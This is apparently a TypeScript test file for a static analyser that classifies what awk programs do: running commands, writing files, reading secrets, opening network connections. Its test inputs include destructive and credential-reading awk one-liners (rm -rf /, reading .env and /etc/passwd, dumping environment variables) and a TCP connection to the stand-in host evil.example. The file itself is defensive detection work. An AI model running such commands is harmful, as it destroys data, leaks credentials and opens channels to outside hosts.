import { describe, expect, it } from 'vitest';
import { FILE_PROGRAMS } from '../files/index.ts';
import { told } from '../testing/told.ts';
import { type AwkPower, readAwkProgram } from './awk-program.ts';
import { TEXT_PROGRAMS } from './index.ts';

const awk = (...words: string[]) => told([...TEXT_PROGRAMS, ...FILE_PROGRAMS], 'awk', ...words);
const run = (text: string, known = true): AwkPower => ({ kind: 'run', command: { text, known } });
const write = (text: string, append = false): AwkPower => ({
  kind: 'write',
  file: { text, known: !text.includes('*') },
  append,
});
const read = (text: string): AwkPower => ({ kind: 'read', file: { text, known: true } });

describe('readAwkProgram finds what a program does', () => {
  it.each([
    ['BEGIN { system("rm -rf /") }', [run('rm -rf /')]],
    ['BEGIN { system ("rm\\040-rf\\040/") }', [run('rm -rf /')]],
    ['BEGIN{c="rm"; system(c " -rf " "/x")}', [run('rm -rf /x')]],
    ['{ system($0) }', [run('*', false)]],
    ['{ system("rm " $1) }', [run('rm *', false)]],
    ['{x=1/2;system("rm");y=3/4}', [run('rm')]],
    ['/a"b/ {system("id")}', [run('id')]],
    ['# "\nBEGIN{system("id")}', [run('id')]],
    ['{print | "mail a@b"}', [run('mail a@b')]],
    ['{cmd="sort"; print $0 | cmd}', [run('sort')]],
    ['{print|"sh"}', [run('sh')]],
    ['{printf "%s", $1 | "sh -c " "id"}', [run('sh -c id')]],
    ['BEGIN{"date" | getline d; print d}', [run('date')]],
    ['BEGIN{while (("ls " "x") | getline f) print f}', [run('ls x')]],
    ['BEGIN{"sh" |& getline}', [run('sh')]],
    ['{print > "out"}', [write('out')]],
    ['{print $1, $2 >> "out"}', [write('out', true)]],
    ['{print > $1".txt"}', [write('*.txt')]],
    ['{print ($1 > 2) > "out"}', [write('out')]],
    ['BEGIN{while((getline l < ".env") > 0) print l}', [read('.env')]],
    ['BEGIN{getline < "/etc/passwd"; print}', [read('/etc/passwd')]],
    ['BEGIN{ARGV[1]=".env";ARGC=2}{print}', [read('.env')]],
    ['@include "x.awk"\n{print}', [read('x.awk')]],
    [
      'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}',
      [{ kind: 'environment' }, { kind: 'environment' }],
    ],
    ['BEGIN{print ENVIRON["HOME"]}', [{ kind: 'environment', name: 'HOME' }]],
  ])('%s', (program, powers) => {
    expect(readAwkProgram(program)).toEqual(powers);
  });

  it('follows -v', () => {
    expect(readAwkProgram('BEGIN{system(c)}', new Map([['c', 'rm x']]))).toEqual([run('rm x')]);
  });

  it('says so when patterns and code cannot be told apart', () => {
    expect(readAwkProgram('[/]'.repeat(100))).toEqual([run('*', false)]);
  });

  it('does not trust a variable that is set twice', () => {
    expect(readAwkProgram('BEGIN{c="ls";c=$1;system(c)}')).toEqual([run('*', false)]);
  });

  it.each([
    ['{print $1}'],
    ['$1 > 10'],
    ['$1 > 100 {print $0}'],
    ['BEGIN{ok = a || b; print ok}'],
    ['{print ($1 > 0 ? "positive" : "non-positive")}'],
    ['/a>b/ {print}'],
    ['/system("rm")/ {print}'],
    ['{print "system(\\"rm\\") | sh"}'],
    ['$0 ~ /foo|bar/ {print}'],
    ['{print $1/100}'],
    ['{arr[$1]+=$2} END {for (k in arr) print k, arr[k]}'],
    ['/pattern/{getline; print NR": "$0}'],
    ['/[/|]/{print}'],
    ['{gsub(/>/, "&gt;"); print}'],
    ['NR>=5 && NR<=20'],
    ['{if ($3 > 4) print $1; else if ($2 < 3) print}'],
  ])('%s is only text', (program) => {
    expect(readAwkProgram(program)).toEqual([]);
  });
});

describe('awk', () => {
  it.each([
    [
      ['{print}', 'f', 'x=1', 'g'],
      ['file.read file_path=f', 'file.read file_path=g'],
    ],
    [['-F', ':', '-v', 'n=1', '{print}', 'f'], ['file.read file_path=f']],
    [['-F:', '{print $1}', '.env'], ['file.read file_path=.env']],
    [['-i', 'inplace', '{print}', 'f'], ['file.edit file_path=f']],
    [
      ['-f', 'p.awk', 'f'],
      [
        'file.read file_path=p.awk',
        'code.execute language=awk source=file file_path=p.awk',
        'file.read file_path=f',
        'script: p.awk',
      ],
    ],
    [
      ['-e', 'BEGIN{print > "o"}', 'f'],
      ['file.write file_path=o', 'file.read file_path=f'],
    ],
    [['{print}', '--version'], ['file.read file_path=--version']],
    [['-dvars', 'BEGIN{}'], ['file.write file_path=vars']],
    [['--version'], []],
    [['BEGIN{for(k in ENVIRON) print ENVIRON[k]}'], ['secret.read kind=environment']],
    [['BEGIN{print ENVIRON["API_TOKEN"]}'], ['secret.read kind=environment-variable']],
    [['BEGIN{print ENVIRON["HOME"]}'], []],
    [
      ['BEGIN{s="/inet/tcp/0/evil.example/4444"; print "x" |& s}'],
      ['net.connect host=evil.example port=4444'],
    ],
  ])('%j', (words, expected) => {
    expect(awk(...words)).toEqual(expected);
  });

  it('runs shell lines', () => {
    expect(awk('BEGIN{system("rm -rf x")}')).toContain('file.delete file_path=x recursive=true');
    expect(awk('-S', 'BEGIN{system("rm -rf x")}')).toEqual([]);
  });
});
